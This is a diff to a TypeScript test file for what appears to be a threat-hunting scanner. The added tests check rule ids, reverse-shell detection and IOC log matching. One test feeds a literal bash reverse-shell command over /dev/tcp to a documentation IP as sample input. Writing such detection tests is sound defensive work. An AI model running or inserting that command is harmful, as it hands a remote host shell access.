@@ -1,8 +1,25 @@
-import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import {
+  copyFileSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
-import { dirname, join } from "node:path";
+import { basename, dirname, join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
 import { runCli } from "../../../src/cli/main.js";
+import {
+  compileIocRules,
+  compileRules,
+  findingsFromHits,
+  huntBuffer,
+  IOC_LOG_RULE,
+} from "../../../src/judge/hunt/index.js";
+import { iocFromArgs } from "../../../src/judge/ioc/ioc-set.js";
+import { BUILTIN_RULE_IDS } from "../../../src/judge/rule-ids.js";
 import {
   jsonSyntaxError,
   jsonValueLines,
@@ -364,5 +381,51 @@ describe("jsonValueLines", () => {
       "a.1.b": 3,
       c: 4,
     });
+  });
+});
+
+describe("one id per rule", () => {
+  it("the judge's code emits exactly the registered built-in ids", () => {
+    const dir = join(SHIPPED_RULES_DIR, "..", "src", "judge", "rules");
+    const emitted = new Set<string>();
+    for (const f of readdirSync(dir)) {
+      const text = readFileSync(join(dir, f), "utf8");
+      for (const m of text.matchAll(
+        /"((?:process|socket|container|account|login|traffic|spread|ioc)\.[a-z0-9-]+)"/g,
+      )) {
+        emitted.add(m[1]!);
+      }
+    }
+    expect([...emitted].sort()).toEqual(Object.keys(BUILTIN_RULE_IDS).sort());
+  });
+  it("hunting rules carry their id, and their findings carry it too", async () => {
+    const r = await loadRuleSet();
+    if (!r.ok) throw new Error(r.error.message);
+    for (const rule of r.value.hunt) {
+      expect(rule.id).toBe(`hunt.${basename(rule.file, ".rule")}`);
+      expect(BUILTIN_RULE_IDS[rule.id]).toBeUndefined();
+    }
+    const hits = huntBuffer(
+      Buffer.from("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
+      compileRules(r.value.hunt),
+      "f",
+    );
+    expect(
+      findingsFromHits(hits, r.value.hunt, { origin: { where: "host", containerId: null } }).map(
+        (f) => f.rule,
+      ),
+    ).toEqual(["hunt.reverse-shell"]);
+  });
+  it("every IOC found in a log is ioc.log, told apart by its indicator", () => {
+    const iocs = iocFromArgs(["wate", "203.0.113.9"]);
+    if (!iocs.ok) throw new Error(iocs.error.message);
+    const set = compileIocRules(iocs.value);
+    const hits = huntBuffer(Buffer.from("ran /tmp/wate\nto 203.0.113.9:4444\n"), set, "f");
+    const fs = findingsFromHits(hits, set, { origin: { where: "host", containerId: null } });
+    expect(fs.map((f) => f.rule)).toEqual([IOC_LOG_RULE, IOC_LOG_RULE]);
+    expect(fs.map((f) => f.title)).toEqual([
+      expect.stringContaining("name:wate"),
+      expect.stringContaining("ip:203.0.113.9"),
+    ]);
   });
 });
